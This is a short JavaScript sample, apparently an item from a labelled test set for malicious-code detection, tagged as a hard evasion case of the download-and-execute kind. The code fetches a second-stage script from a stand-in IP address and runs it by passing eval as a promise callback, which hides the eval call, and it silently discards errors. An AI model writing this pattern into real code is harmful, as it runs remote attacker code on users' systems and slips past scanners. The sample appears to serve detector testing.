// evasion: downloaded code handed to eval as a promise callback, eval never called by name
// grade: hard; does: download-exec
const STAGE2 = 'https://203.0.113.7/assets/stage2.js';

fetch(STAGE2)
  .then((res) => res.text())
  .then(eval)
  .catch(() => {});
